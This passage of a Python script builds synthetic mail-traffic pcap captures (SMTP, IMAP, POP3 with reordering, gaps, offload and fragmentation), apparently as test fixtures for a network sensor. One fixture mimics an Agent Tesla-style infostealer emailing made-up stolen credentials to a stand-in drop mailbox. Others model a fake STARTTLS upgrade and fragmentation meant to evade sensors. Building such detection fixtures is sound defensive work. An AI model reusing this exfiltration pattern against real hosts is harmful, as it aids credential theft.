#!/usr/bin/env python3
"""craft-pcaps.py - build synthetic mail captures from readable transcripts.

Library part: Capture (one output file, one link type) and Flow (one TCP
connection with correct seq/ack, 3-way handshake, MSS segmentation, FIN
close, plus hooks for reordering, retransmission and loss). Script part:
writes the crafted captures listed in pcaps/README.md into a directory.

Everything is deterministic: fixed addresses, ISNs, content and packet
times starting 2024-03-05T14:00:00Z, so goldens built on these files are
stable. Pure stdlib; shares tools/pcaplib.py with tools/pcap-rewrite.py.

Usage: tools/craft-pcaps.py [OUTDIR]        (default: pcaps/ next to tools/)
       tools/craft-pcaps.py OUTDIR NAME...  (only the named captures)
"""

import base64
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pcaplib as P  # noqa: E402

T0 = 1709647200 * 1000000  # 2024-03-05T14:00:00Z in microseconds

CLIENT4 = "10.20.30.40"      # "home network" client
SERVER4 = "203.0.113.25"     # external relay (TEST-NET-3)
CLIENT6 = "2001:db8:10::40"
SERVER6 = "2001:db8:113::25"


# ---------------------------------------------------------------- library

def transcript(text):
    """'C: line' / 'S: line' lines -> [(dir, bytes)]. Consecutive lines of
    the same side become ONE send (one write() by that peer); 'C:' alone is
    an empty line. Every line gets CRLF. A line '--' splits two sends of the
    same side. Lines starting with '#' are comments."""
    out = []
    cur_dir, cur = None, []
    for raw in text.strip("\n").split("\n"):
        if raw.startswith("#"):
            continue
        if raw == "--":
            if cur:
                out.append((cur_dir, "".join(cur).encode("utf-8")))
            cur_dir, cur = None, []
            continue
        side, _, rest = raw.partition(":")
        if side not in ("C", "S"):
            raise ValueError("bad transcript line: %r" % raw)
        if rest.startswith(" "):
            rest = rest[1:]
        if side != cur_dir and cur:
            out.append((cur_dir, "".join(cur).encode("utf-8")))
            cur = []
        cur_dir = side
        cur.append(rest + "\r\n")
    if cur:
        out.append((cur_dir, "".join(cur).encode("utf-8")))
    return out


class Capture:
    """Collects frames of one or more flows and writes them sorted by time.
    link: 'eth', 'vlan', 'qinq', 'sll', 'sll2', 'raw', 'null', or a mirror
    tunnel around Ethernet: 'vxlan', 'erspan' (type II)."""

    LINKTYPES = {"eth": P.LINKTYPE_ETHERNET, "vlan": P.LINKTYPE_ETHERNET,
                 "vxlan": P.LINKTYPE_ETHERNET, "erspan": P.LINKTYPE_ETHERNET,
                 "qinq": P.LINKTYPE_ETHERNET, "sll": P.LINKTYPE_LINUX_SLL,
                 "sll2": P.LINKTYPE_LINUX_SLL2, "raw": P.LINKTYPE_RAW,
                 "null": P.LINKTYPE_NULL}

    def __init__(self, link="eth"):
        self.link = link
        self.frames = []  # (ts, seqno, frame) - seqno keeps emit order on ties
        self.mirrored = 0  # frames sent through the mirror tunnel so far

    def frame(self, ip_pkt, v6, from_client):
        et = P.ETH_IPV6 if v6 else P.ETH_IPV4
        src = P.CLIENT_MAC if from_client else P.SERVER_MAC
        dst = P.SERVER_MAC if from_client else P.CLIENT_MAC
        if self.link == "eth":
            return P.ethernet(dst, src, et, ip_pkt)
        if self.link in ("vxlan", "erspan"):
            self.mirrored += 1
            frame = P.ethernet(dst, src, et, ip_pkt)
            return (P.vxlan(frame) if self.link == "vxlan"
                    else P.erspan2(frame, self.mirrored))
        if self.link == "vlan":
            return P.ethernet(dst, src, et, ip_pkt, vlans=(120,))
        if self.link == "qinq":
            return P.ethernet(dst, src, et, ip_pkt, vlans=(300, 120),
                              outer_tpid=P.ETH_8021AD)
        if self.link == "sll":
            return P.sll(et, ip_pkt, outgoing=from_client, addr=src)
        if self.link == "sll2":
            return P.sll2(et, ip_pkt, outgoing=from_client, addr=src)
        if self.link == "raw":
            return ip_pkt
        if self.link == "null":
            return P.null_loop(ip_pkt, v6)
        raise ValueError(self.link)

    def add(self, ts, frame):
        self.frames.append((ts, len(self.frames), frame))

    def write(self, path):
        with P.PcapWriter(path, self.LINKTYPES[self.link]) as w:
            for ts, _, fr in sorted(self.frames):
                w.write(ts, fr)


class Flow:
    """One TCP connection. Times advance by fixed steps so output is stable:
    `rtt` between a send and the peer's ACK/answer, `gap` between sends."""

    def __init__(self, cap, client, server, cport, sport, t, isn_c=1000000,
                 isn_s=5000000, mss=1460, hop_by_hop=False, rtt=400, gap=20000,
                 offload_over=None, fragment_over=None):
        self.cap = cap
        self.v6 = ":" in client
        self.caddr, self.saddr = P.ip_bytes(client), P.ip_bytes(server)
        self.cport, self.sport = cport, sport
        self.t = t
        self.seq = {"C": isn_c, "S": isn_s}   # next seq to send per side
        self.ack = {"C": 0, "S": 0}           # what each side acknowledges
        self.mss = mss
        self.hbh = hop_by_hop
        self.rtt, self.gap = rtt, gap
        self.ipid = {"C": 0x1000, "S": 0x7000}
        # Client packets longer than this are written as a host that
        # offloads segmentation captures them: IP length field 0.
        self.offload_over = offload_over
        # Client segments longer than this go out as IP fragments of that
        # size, captured last first (a path that reorders them).
        self.fragment_over = fragment_over
        self.frag_id = 0x3000

    # -- raw packet emission
    def packet(self, side, flags, seq, ack, payload=b"", ts=None, options=b""):
        fc = side == "C"
        src, dst = (self.caddr, self.saddr) if fc else (self.saddr, self.caddr)
        sp, dp = (self.cport, self.sport) if fc else (self.sport, self.cport)
        seg = P.tcp_segment(src, dst, sp, dp, seq, ack, flags, payload,
                            window=64240 if fc else 65160, options=options)
        if fc and self.fragment_over and len(seg) > self.fragment_over:
            self.frag_id += 1
            pieces = (P.ipv6_fragments(src, dst, 6, seg, self.frag_id, self.fragment_over)
                      if self.v6 else
                      P.ipv4_fragments(src, dst, 6, seg, self.frag_id, self.fragment_over))
            for ip in reversed(pieces):
                self.cap.add(self.t if ts is None else ts, self.cap.frame(ip, self.v6, fc))
            return
        if self.v6:
            ip = P.ipv6_packet(src, dst, 6, seg, hop_by_hop=self.hbh)
        else:
            self.ipid[side] += 1
            ip = P.ipv4_packet(src, dst, 6, seg, ident=self.ipid[side],
                               ttl=64 if fc else 52)
        if fc and self.offload_over and len(ip) > self.offload_over:
            ip = bytearray(ip)
            if self.v6:
                ip[4:6] = b"\0\0"    # payload length
            else:
                ip[2:4] = b"\0\0"    # total length, and the checksum the
                ip[10:12] = b"\0\0"  # NIC would fill in
            ip = bytes(ip)
        self.cap.add(self.t if ts is None else ts, self.cap.frame(ip, self.v6, fc))

    def tick(self, us):
        self.t += us

    # -- connection setup/teardown
    def handshake(self):
        mss_opt = b"\x02\x04" + (self.mss).to_bytes(2, "big")
        self.packet("C", P.TCP_SYN, self.seq["C"], 0, options=mss_opt)
        self.seq["C"] += 1
        self.tick(self.rtt)
        self.packet("S", P.TCP_SYN | P.TCP_ACK, self.seq["S"], self.seq["C"],
                    options=mss_opt)
        self.seq["S"] += 1
        self.tick(self.rtt)
        self.ack = {"C": self.seq["S"], "S": self.seq["C"]}
        self.packet("C", P.TCP_ACK, self.seq["C"], self.ack["C"])
        self.tick(self.gap)

    def close(self, first="C"):
        other = "S" if first == "C" else "C"
        self.packet(first, P.TCP_FIN | P.TCP_ACK, self.seq[first], self.ack[first])
        self.seq[first] += 1
        self.ack[other] = self.seq[first]
        self.tick(self.rtt)
        self.packet(other, P.TCP_FIN | P.TCP_ACK, self.seq[other], self.ack[other])
        self.seq[other] += 1
        self.ack[first] = self.seq[other]
        self.tick(self.rtt)
        self.packet(first, P.TCP_ACK, self.seq[first], self.ack[first])
        self.tick(self.gap)

    def rst(self, side="C"):
        self.packet(side, P.TCP_RST | P.TCP_ACK, self.seq[side], self.ack[side])
        self.tick(self.gap)

    # -- data
    def segments(self, side, data):
        """Split data into MSS segments: [(seq, bytes)], advancing seq.
        Nothing is emitted: callers may reorder/drop/duplicate."""
        out = []
        for off in range(0, len(data), self.mss):
            chunk = data[off:off + self.mss]
            out.append((self.seq[side], chunk))
            self.seq[side] += len(chunk)
        return out

    def emit(self, side, segs, step=50):
        for seq, chunk in segs:
            self.packet(side, P.TCP_PSH | P.TCP_ACK, seq, self.ack[side], chunk)
            self.tick(step)

    def ack_all(self, side):
        """The peer of `side` acknowledges everything `side` sent."""
        other = "S" if side == "C" else "C"
        self.ack[other] = self.seq[side]
        self.packet(other, P.TCP_ACK, self.seq[other], self.ack[other])

    def send(self, side, data, pure_ack=None):
        """Send data in order; the peer ACKs it (pure ACK only for client
        data, since a server's answer already carries the ACK)."""
        self.emit(side, self.segments(side, data))
        other = "S" if side == "C" else "C"
        self.ack[other] = self.seq[side]
        if pure_ack is None:
            pure_ack = side == "C" and len(data) > self.mss
        self.tick(self.rtt)
        if pure_ack:
            self.ack_all(side)
        self.tick(self.gap)

    def run(self, steps):
        for side, data in steps:
            self.send(side, data)


# ---------------------------------------------------------------- content

def b64lines(data, width=76):
    s = base64.b64encode(data).decode("ascii")
    return [s[i:i + width] for i in range(0, len(s), width)]


def message_lines(mail_from, rcpts, subject, body, attach=None, msgid="1"):
    """A small MIME message as transcript 'C:' lines (dot-stuffing done by
    callers that need it: our bodies never start a line with '.')."""
    lines = [
        "From: Alice Example <%s>" % mail_from,
        "To: " + ", ".join("<%s>" % r for r in rcpts),
        "Subject: " + subject,
        "Date: Tue, 05 Mar 2024 14:00:00 +0000",
        "Message-ID: <craft-%s@client.example.org>" % msgid,
        "X-Mailer: craft-pcaps.py",
        "MIME-Version: 1.0",
    ]
    if attach is None:
        lines += ["Content-Type: text/plain; charset=utf-8", ""] + body
    else:
        name, data, ctype = attach
        lines += ['Content-Type: multipart/mixed; boundary="=-b1"', "",
                  "--=-b1", "Content-Type: text/plain; charset=utf-8", ""] + body + [
            "--=-b1",
            'Content-Type: %s; name="%s"' % (ctype, name),
            "Content-Transfer-Encoding: base64",
            'Content-Disposition: attachment; filename="%s"' % name, ""]
        lines += b64lines(data) + ["--=-b1--"]
    return lines


ATTACH = ("report.txt", b"quarterly numbers: 1 2 3 4\nconfidential\n", "text/plain")
FROM = "alice@example.org"
RCPTS = ["bob@example.net", "carol@example.net"]


def c_block(lines):
    return "\n".join("C: " + line for line in lines)


def smtp_auth_login_session():
    """Short SMTP session: EHLO, AUTH LOGIN, 2 recipients, small MIME
    message with one text attachment, QUIT."""
    user = base64.b64encode(FROM.encode()).decode()
    pw = base64.b64encode(b"not-a-real-secret").decode()
    msg = message_lines(FROM, RCPTS, "link test", ["hello from the link tests"],
                        ATTACH, msgid="link")
    return transcript("""
S: 220 relay.example.net ESMTP
C: EHLO client.example.org
S: 250-relay.example.net
S: 250-PIPELINING
S: 250-SIZE 10240000
S: 250-AUTH PLAIN LOGIN
S: 250-8BITMIME
S: 250 SMTPUTF8
C: AUTH LOGIN
S: 334 VXNlcm5hbWU6
C: %s
S: 334 UGFzc3dvcmQ6
C: %s
S: 235 2.7.0 Authentication successful
C: MAIL FROM:<%s>
S: 250 2.1.0 Ok
C: RCPT TO:<%s>
S: 250 2.1.5 Ok
C: RCPT TO:<%s>
S: 250 2.1.5 Ok
C: DATA
S: 354 End data with <CR><LF>.<CR><LF>
%s
C: .
S: 250 2.0.0 Ok: queued as 4TqABC1xyz
C: QUIT
S: 221 2.0.0 Bye
""" % (user, pw, FROM, RCPTS[0], RCPTS[1], c_block(msg)))


def simple_flow(cap, steps, client=CLIENT4, server=SERVER4, cport=40001,
                sport=25, t=T0, **kw):
    f = Flow(cap, client, server, cport, sport, t, **kw)
    f.handshake()
    f.run(steps)
    f.close()
    return f


# ---------------------------------------------------------------- captures

def link_capture(link, v6=False):
    def build(path):
        cap = Capture(link)
        if v6:
            simple_flow(cap, smtp_auth_login_session(), CLIENT6, SERVER6,
                        hop_by_hop=True)
        else:
            simple_flow(cap, smtp_auth_login_session())
        cap.write(path)
    return build


def smtp_up_to_data():
    """The start of an SMTP transaction the TCP captures share: greeting,
    EHLO, MAIL, one RCPT, DATA and its 354."""
    return transcript("""
S: 220 relay.example.net ESMTP
C: EHLO client.example.org
S: 250-relay.example.net
S: 250 8BITMIME
C: MAIL FROM:<%s>
S: 250 2.1.0 Ok
C: RCPT TO:<%s>
S: 250 2.1.5 Ok
C: DATA
S: 354 End data with <CR><LF>.<CR><LF>
""" % (FROM, RCPTS[0]))


def mail_transaction(mail_from, rcpt, msg, queue_id):
    """Transcript text from MAIL to the server's goodbye: one recipient,
    the message (transcript lines), accepted under queue_id."""
    return """C: MAIL FROM:<%s>
S: 250 2.1.0 Ok
C: RCPT TO:<%s>
S: 250 2.1.5 Ok
C: DATA
S: 354 End data with <CR><LF>.<CR><LF>
%s
C: .
S: 250 2.0.0 Ok: queued as %s
C: QUIT
S: 221 2.0.0 Bye
""" % (mail_from, rcpt, c_block(msg), queue_id)


PLAIN_GREETING = """S: 220 relay.example.net ESMTP
C: EHLO client.example.org
S: 250 relay.example.net
"""


def tcp_reorder(path):
    """SMTP where the DATA payload (8 segments of 200 bytes) arrives out of
    order, with one exact retransmission and one retransmission that
    overlaps the end of one segment and the start of the next (same bytes)."""
    cap = Capture("eth")
    f = Flow(cap, CLIENT4, SERVER4, 40002, 25, T0, mss=200)
    f.handshake()
    f.run(smtp_up_to_data())
    body = ["line %03d of the reordered message body, padded to a fixed width...."
            % i for i in range(22)]
    data = "\r\n".join(message_lines(FROM, RCPTS[:1], "reorder test", body,
                                     msgid="reorder")).encode() + b"\r\n.\r\n"
    segs = f.segments("C", data)
    assert len(segs) >= 8
    order = [0, 2, 1, 3, 3, 5, 4]
    f.emit("C", [segs[i] for i in order])
    # overlapping retransmission: last 100 bytes of seg 5 + first 100 of seg 6
    s5, d5 = segs[5]
    s6, d6 = segs[6]
    f.emit("C", [(s5 + len(d5) - 100, d5[-100:] + d6[:100])])
    f.emit("C", segs[6:])
    f.ack["S"] = f.seq["C"]
    f.tick(f.rtt)
    f.run(transcript("""
S: 250 2.0.0 Ok: queued as 4TqREORD1
C: QUIT
S: 221 2.0.0 Bye
"""))
    f.close()
    cap.write(path)


def tcp_ack_first(path):
    """SMTP as a SPAN port can deliver it: the two directions reach the
    sensor by different paths, so some of the server's pure ACKs are
    captured just before the client segments they acknowledge (at the same
    microsecond), as in Wireshark's "ACKed unseen segment" followed by the
    segment. Also the ACK of the client's FIN comes before the FIN. Nothing
    is lost: the message must come out whole, with no gap."""
    cap = Capture("eth")
    f = Flow(cap, CLIENT4, SERVER4, 40023, 25, T0, mss=100)
    f.handshake()
    f.run(smtp_up_to_data())
    data = "\r\n".join(message_lines(FROM, RCPTS[:1], "ack first", ["captured out of step"],
                                     ATTACH, msgid="ackfirst")).encode() + b"\r\n.\r\n"
    for i, (seq, chunk) in enumerate(f.segments("C", data)):
        if i % 2:
            # the server's ACK overtakes the segment on its way to the sensor
            f.packet("S", P.TCP_ACK, f.seq["S"], seq + len(chunk))
            f.packet("C", P.TCP_PSH | P.TCP_ACK, seq, f.ack["C"], chunk)
        else:
            f.packet("C", P.TCP_PSH | P.TCP_ACK, seq, f.ack["C"], chunk)
            f.tick(f.rtt)
            f.packet("S", P.TCP_ACK, f.seq["S"], seq + len(chunk))
        f.tick(f.gap)
    f.ack["S"] = f.seq["C"]
    f.run(transcript("""
S: 250 2.0.0 Ok: queued as 4TqACK1
C: QUIT
S: 221 2.0.0 Bye
"""))
    # server closes; its ACK of the client's FIN is captured before the FIN
    f.packet("S", P.TCP_FIN | P.TCP_ACK, f.seq["S"], f.ack["S"])
    f.seq["S"] += 1
    f.tick(f.rtt)
    f.packet("S", P.TCP_ACK, f.seq["S"], f.seq["C"] + 1)
    f.packet("C", P.TCP_FIN | P.TCP_ACK, f.seq["C"], f.seq["S"])
    cap.write(path)


def tcp_gap(path):
    """SMTP with one client segment missing from the capture in the middle
    of DATA (the server did get it: it answers 250), then a second
    complete transaction (RSET-less: MAIL FROM again) on the same flow."""
    cap = Capture("eth")
    f = Flow(cap, CLIENT4, SERVER4, 40003, 25, T0, mss=300)
    f.handshake()
    f.run(smtp_up_to_data())
    body = ["gap test body line %02d xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
            % i for i in range(20)]
    data = "\r\n".join(message_lines(FROM, RCPTS[:1], "gap test 1", body,
                                     msgid="gap1")).encode() + b"\r\n.\r\n"
    segs = f.segments("C", data)
    lost = len(segs) // 2
    f.emit("C", segs[:lost] + segs[lost + 1:])
    f.tick(f.rtt)
    f.ack["S"] = f.seq["C"]
    f.run(transcript("""
S: 250 2.0.0 Ok: queued as 4TqGAP0001
"""))
    data2 = "\r\n".join(message_lines(FROM, RCPTS[1:], "gap test 2 after the hole",
                                      ["second message, fully captured"], ATTACH,
                                      msgid="gap2"))
    f.run(transcript("""
C: MAIL FROM:<%s>
S: 250 2.1.0 Ok
C: RCPT TO:<%s>
S: 250 2.1.5 Ok
C: DATA
S: 354 End data with <CR><LF>.<CR><LF>
%s
C: .
S: 250 2.0.0 Ok: queued as 4TqGAP0002
C: QUIT
S: 221 2.0.0 Bye
""" % (FROM, RCPTS[1], c_block(data2.split("\r\n")))))
    f.close()
    cap.write(path)


def smtp_bdat(path):
    """CHUNKING: BDAT 2 chunks, the second with LAST pipelined in the same
    segment as the first; chunk data contains a bare '.' line, which BDAT
    must NOT treat as end of data."""
    cap = Capture("eth")
    msg = "\r\n".join(message_lines(FROM, RCPTS, "bdat test",
                                    ["chunked body", ".", "after a lone dot"],
                                    ATTACH, msgid="bdat")) + "\r\n"
    raw = msg.encode()
    c1, c2 = raw[:200], raw[200:]
    steps = transcript("""
S: 220 relay.example.net ESMTP
C: EHLO client.example.org
S: 250-relay.example.net
S: 250-PIPELINING
S: 250-CHUNKING
S: 250 8BITMIME
C: MAIL FROM:<%s>
C: RCPT TO:<%s>
C: RCPT TO:<%s>
S: 250 2.1.0 Ok
S: 250 2.1.5 Ok
S: 250 2.1.5 Ok
""" % (FROM, RCPTS[0], RCPTS[1]))
    bdat = (b"BDAT %d\r\n" % len(c1)) + c1 + (b"BDAT %d LAST\r\n" % len(c2)) + c2
    steps.append(("C", bdat))
    steps += transcript("""
S: 250 2.0.0 Ok: %d octets
S: 250 2.0.0 Ok: queued as 4TqBDAT001
C: QUIT
S: 221 2.0.0 Bye
""" % len(c1))
    simple_flow(cap, steps, cport=40004)
    cap.write(path)


def smtp_pipelining(path):
    """PIPELINING: MAIL, three RCPT (one rejected) and DATA in one client
    segment; all replies in one server segment."""
    cap = Capture("eth")
    msg = message_lines(FROM, RCPTS, "pipelining test", ["pipelined"], ATTACH,
                        msgid="pipe")
    steps = transcript("""
S: 220 relay.example.net ESMTP
C: EHLO client.example.org
S: 250-relay.example.net
S: 250-PIPELINING
S: 250 8BITMIME
C: MAIL FROM:<%s>
C: RCPT TO:<%s>
C: RCPT TO:<nobody@example.net>
C: RCPT TO:<%s>
C: DATA
S: 250 2.1.0 Ok
S: 250 2.1.5 Ok
S: 550 5.1.1 <nobody@example.net>: Recipient address rejected: User unknown
S: 250 2.1.5 Ok
S: 354 End data with <CR><LF>.<CR><LF>
%s
C: .
C: QUIT
S: 250 2.0.0 Ok: queued as 4TqPIPE001
S: 221 2.0.0 Bye
""" % (FROM, RCPTS[0], RCPTS[1], c_block(msg)))
    simple_flow(cap, steps, cport=40005)
    cap.write(path)


def smtp_8080(path):
    cap = Capture("eth")
    simple_flow(cap, smtp_auth_login_session(), cport=40006, sport=8080)
    cap.write(path)


def imap_literalplus(path):
    """IMAP APPEND with a non-synchronising literal {n+} (RFC 7888): the
    client sends command and literal without waiting for '+'."""
    msg = "\r\n".join(message_lines(FROM, RCPTS[:1], "draft via literal+",
                                    ["appended with LITERAL+"], ATTACH,
                                    msgid="litplus")) + "\r\n"
    raw = msg.encode()
    cap = Capture("eth")
    steps = transcript("""
S: * OK [CAPABILITY IMAP4rev1 LITERAL+ SASL-IR LOGIN-REFERRALS ID ENABLE IDLE AUTH=PLAIN] imap.example.net ready.
C: A001 CAPABILITY
S: * CAPABILITY IMAP4rev1 LITERAL+ SASL-IR LOGIN-REFERRALS ID ENABLE IDLE AUTH=PLAIN
S: A001 OK Capability completed.
C: A002 LOGIN alice not-a-real-secret
S: A002 OK [CAPABILITY IMAP4rev1 LITERAL+ UIDPLUS MOVE] Logged in
""")
    steps.append(("C", b"A003 APPEND Drafts (\\Seen) {%d+}\r\n" % len(raw) + raw + b"\r\n"))
    steps += transcript("""
S: A003 OK [APPENDUID 1709647200 1] Append completed.
C: A004 LOGOUT
S: * BYE Logging out
S: A004 OK Logout completed.
""")
    simple_flow(cap, steps, cport=40007, sport=143)
    cap.write(path)


def pop3_pipelined(path):
    """POP3 with PIPELINING (RFC 2449): LIST, RETR 1 and DELE 1 sent in one
    segment; answers come back in one segment."""
    msg = message_lines("carol@example.net", [FROM], "pop3 pipelined",
                        ["retrieved through a pipelined RETR"], ATTACH, msgid="pop")
    size = len("\r\n".join(msg).encode()) + 2
    cap = Capture("eth")
    steps = transcript("""
S: +OK POP3 pop.example.net ready.
C: CAPA
S: +OK
S: PIPELINING
S: TOP
S: UIDL
S: USER
S: .
C: USER alice
S: +OK
C: PASS not-a-real-secret
S: +OK Logged in.
C: LIST
C: RETR 1
C: DELE 1
S: +OK 1 messages:
S: 1 %d
S: .
S: +OK %d octets
%s
S: .
S: +OK Marked to be deleted.
C: QUIT
S: +OK Logging out, messages deleted.
""" % (size, size, "\n".join("S: " + line for line in msg)))
    simple_flow(cap, steps, cport=40008, sport=110)
    cap.write(path)


def not_mail_on_25(path):
    cap = Capture("eth")
    body = "<html><body>not a mail server</body></html>\r\n"
    steps = transcript("""
C: GET /index.html HTTP/1.1
C: Host: relay.example.net:25
C: User-Agent: curl/7.88.1
C: Accept: */*
C:
S: HTTP/1.1 200 OK
S: Server: SimpleHTTP/0.6 Python/3.11.2
S: Content-Type: text/html
S: Content-Length: %d
S:
""" % len(body))
    steps[-1] = ("S", steps[-1][1] + body.encode())
    simple_flow(cap, steps, cport=40009, sport=25)
    cap.write(path)


def smtp_http_connect(path):
    """SMTP through an HTTP proxy: the client asks the proxy (port 3128)
    for a CONNECT tunnel to a mail relay, then speaks SMTP inside it."""
    cap = Capture("eth")
    steps = transcript("""
C: CONNECT relay.example.net:25 HTTP/1.1
C: Host: relay.example.net:25
C: User-Agent: mailer/1.0
C:
S: HTTP/1.1 200 Connection established
S:
""")
    simple_flow(cap, steps + smtp_auth_login_session(), cport=40014, sport=3128)
    cap.write(path)


def proxy_connect_refused(path):
    """A CONNECT the proxy refuses: no tunnel, nothing to dissect."""
    cap = Capture("eth")
    steps = transcript("""
C: CONNECT relay.example.net:25 HTTP/1.1
C: Host: relay.example.net:25
C:
S: HTTP/1.1 403 Forbidden
S: Content-Length: 0
S:
""")
    simple_flow(cap, steps, cport=40015, sport=3128)
    cap.write(path)


def midstream(path):
    """Capture starts in the middle of DATA: no SYN, no greeting; the rest
    of the message, '.', 250, QUIT and the FIN exchange are present."""
    cap = Capture("eth")
    f = Flow(cap, CLIENT4, SERVER4, 40010, 25, T0, isn_c=77000000, isn_s=88000000)
    f.ack = {"C": f.seq["S"], "S": f.seq["C"]}
    body = ["midstream body line %02d" % i for i in range(10)]
    f.run(transcript("""
%s
C: --
C: Regards,
C: Alice
C: .
S: 250 2.0.0 Ok: queued as 4TqMIDS001
C: QUIT
S: 221 2.0.0 Bye
""" % c_block(body)))
    f.close()
    cap.write(path)


def starttls_cleartext(path):
    """STARTTLS (SMTP, IMAP) and STLS (POP3) accepted, then the session goes
    on in cleartext, as in a decrypted capture or a fake upgrade between
    attacker-run ends: login and a message after the upgrade, which a
    sensor that stops at STARTTLS never sees. One flow per protocol."""
    cap = Capture("eth")
    plain = base64.b64encode(b"\0alice\0not-a-real-secret").decode()
    msg = message_lines(FROM, RCPTS[:1], "after the upgrade",
                        ["sent in the open after STARTTLS"], ATTACH, msgid="fake-tls")
    smtp = transcript("""
S: 220 relay.example.net ESMTP
C: EHLO client.example.org
S: 250-relay.example.net
S: 250 STARTTLS
C: STARTTLS
S: 220 2.0.0 Ready to start TLS
C: EHLO client.example.org
S: 250-relay.example.net
S: 250 AUTH PLAIN
C: AUTH PLAIN %s
S: 235 2.7.0 Authentication successful
C: MAIL FROM:<%s>
S: 250 2.1.0 Ok
C: RCPT TO:<%s>
S: 250 2.1.5 Ok
C: DATA
S: 354 End data with <CR><LF>.<CR><LF>
%s
C: .
S: 250 2.0.0 Ok: queued as 4TqFAKE1
C: QUIT
S: 221 2.0.0 Bye
""" % (plain, FROM, RCPTS[0], c_block(msg)))
    simple_flow(cap, smtp, cport=40016, sport=25)

    raw = ("\r\n".join(msg) + "\r\n").encode()
    imap = transcript("""
S: * OK [CAPABILITY IMAP4rev1 STARTTLS LOGINDISABLED] imap.example.net ready.
C: A001 STARTTLS
S: A001 OK Begin TLS negotiation now.
C: A002 CAPABILITY
S: * CAPABILITY IMAP4rev1 LITERAL+ AUTH=PLAIN
S: A002 OK Capability completed.
C: A003 LOGIN alice not-a-real-secret
S: A003 OK Logged in
C: A004 SELECT INBOX
S: * 1 EXISTS
S: A004 OK [READ-WRITE] Select completed.
C: A005 FETCH 1 BODY[]
""")
    imap.append(("S", b"* 1 FETCH (BODY[] {%d}\r\n" % len(raw) + raw + b")\r\n"))
    imap += transcript("""
S: A005 OK Fetch completed.
C: A006 LOGOUT
S: * BYE Logging out
S: A006 OK Logout completed.
""")
    simple_flow(cap, imap, cport=40017, sport=143, t=T0 + 1000000)

    pop3 = transcript("""
S: +OK POP3 pop.example.net ready.
C: STLS
S: +OK Begin TLS negotiation now.
C: USER alice
S: +OK
C: PASS not-a-real-secret
S: +OK Logged in.
C: RETR 1
S: +OK %d octets
%s
S: .
C: QUIT
S: +OK Logging out.
""" % (len(raw), "\n".join("S: " + line for line in msg)))
    simple_flow(cap, pop3, cport=40018, sport=110, t=T0 + 2000000)
    cap.write(path)


def smtp_stealer_report(path):
    """An infostealer's report, shaped as Agent Tesla mails it: AUTH LOGIN
    from the implant, subject PW_user/HOST, and an HTML body in
    quoted-printable listing the host and the credentials it took (all
    values made up)."""
    user = base64.b64encode(b"drop@mailbox.example").decode()
    pw = base64.b64encode(b"not-a-real-secret").decode()
    body = [
        "Time: 03/05/2024 14:00:00<br>User Name: jdoe<br>Computer Name: W=",
        "S-0042<br>OSFullName: Microsoft Windows 10 Pro<br>IP Ad=",
        "dress: 198.51.100.7<hr>Host: https://mail.example<br>Username: jd=",
        "oe<br>Password: made-up-for-tests<br>Application: Outlook<br><hr>",
    ]
    steps = transcript("""
S: 220 mx.mailbox.example ESMTP
C: EHLO WS-0042
S: 250-mx.mailbox.example
S: 250 AUTH LOGIN PLAIN
C: AUTH LOGIN
S: 334 VXNlcm5hbWU6
C: %s
S: 334 UGFzc3dvcmQ6
C: %s
S: 235 2.7.0 Authentication successful
C: MAIL FROM:<drop@mailbox.example>
S: 250 OK
C: RCPT TO:<drop@mailbox.example>
S: 250 Accepted
C: DATA
S: 354 Enter message
C: From: drop@mailbox.example
C: To: drop@mailbox.example
C: Subject: PW_jdoe/WS-0042
C: Date: Tue, 05 Mar 2024 14:00:00 +0000
C: MIME-Version: 1.0
C: Content-Type: text/html; charset=utf-8
C: Content-Transfer-Encoding: quoted-printable
C:
%s
C: .
S: 250 OK id=1rSTEAL-0001
C: QUIT
S: 221 closing connection
""" % (user, pw, c_block(body)))
    cap = Capture("eth")
    simple_flow(cap, steps, cport=40019, sport=587)
    cap.write(path)


def smtp_offload(path):
    """Captured on the sending host, which offloads segmentation to its
    NIC (TSO/LSO, as Windows does): the client hands 16 KB segments to the
    capture with IP length 0, over IPv4 (AUTH LOGIN, a .zip attachment,
    port 587) and over IPv6 (port 25). Replies are ordinary."""
    import io
    import zipfile
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        info = zipfile.ZipInfo("export.csv", date_time=(2024, 3, 5, 14, 0, 0))
        z.writestr(info, "".join("row %d,%d\n" % (i, i * i) for i in range(2500)))
    attach = ("export.zip", buf.getvalue(), "application/zip")
    user = base64.b64encode(b"clerk@example.org").decode()
    pw = base64.b64encode(b"not-a-real-secret").decode()

    def session(msgid, auth):
        msg = message_lines("clerk@example.org", ["drop@example.net"], "weekly export",
                            ["see attached"], attach, msgid=msgid)
        login = ("C: AUTH LOGIN\nS: 334 VXNlcm5hbWU6\nC: %s\nS: 334 UGFzc3dvcmQ6\n"
                 "C: %s\nS: 235 2.7.0 Authentication successful\n" % (user, pw)) if auth else ""
        return transcript("""S: 220 relay.example.net ESMTP
C: EHLO WS-0042
S: 250-relay.example.net
S: 250 AUTH LOGIN PLAIN
""" + login + mail_transaction("clerk@example.org", "drop@example.net", msg,
                                "4TqLSO" + msgid))

    cap = Capture("eth")
    simple_flow(cap, session("1", True), cport=40021, sport=587, mss=16384,
                offload_over=1500)
    simple_flow(cap, session("2", False), client=CLIENT6, server=SERVER6, cport=40022,
                t=T0 + 2000000, isn_c=2000000, isn_s=6000000, mss=16384,
                offload_over=1500)
    cap.write(path)


def ip_fragments(path):
    """A client whose segments leave as IP fragments (a path MTU of 576,
    or an exfiltrating tool that fragments to slip past sensors): every
    client segment over 512 bytes is cut into 512-byte fragments, captured
    last first; an SMTP submission with an attachment over IPv4 on 587,
    and the same over IPv6 on 25. The messages must come out whole."""
    def session(tag):
        msg = message_lines(FROM, RCPTS[:1], "fragments " + tag, ["cut into pieces"] * 20,
                            ("ledger.bin", bytes(range(256)) * 12, "application/octet-stream"),
                            msgid="frag" + tag)
        return transcript(PLAIN_GREETING + mail_transaction(FROM, RCPTS[0], msg, "4TqFRAG" + tag))

    cap = Capture("eth")
    simple_flow(cap, session("4"), cport=40024, sport=587, fragment_over=512)
    simple_flow(cap, session("6"), client=CLIENT6, server=SERVER6, cport=40025,
                t=T0 + 2000000, isn_c=2000000, isn_s=6000000, fragment_over=512)
    cap.write(path)


def several_flows_timeout(path):
    """Three SMTP flows from the same client, with idle times > 10 minutes
    of packet time: flow 1 (00:00) complete; flow 2 (00:11) stops after RCPT
